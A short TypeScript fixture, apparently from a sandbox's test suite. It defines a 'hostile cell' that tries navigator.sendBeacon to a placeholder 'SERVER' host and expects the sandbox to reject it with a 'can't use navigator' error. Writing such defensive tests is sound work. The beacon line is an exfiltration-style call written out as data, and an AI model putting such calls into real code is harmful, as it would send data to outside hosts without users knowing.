import type { HostileCell } from '../support/hostile-cell.ts';

export default {
  kind: 'network',
  tries: 'sends a beacon',
  code: String.raw`const step2 = [navigator.sendBeacon('SERVER?beacon', 'softmax')];`,
  ends: ['failed'],
  says: /can't use navigator/,
} satisfies HostileCell;
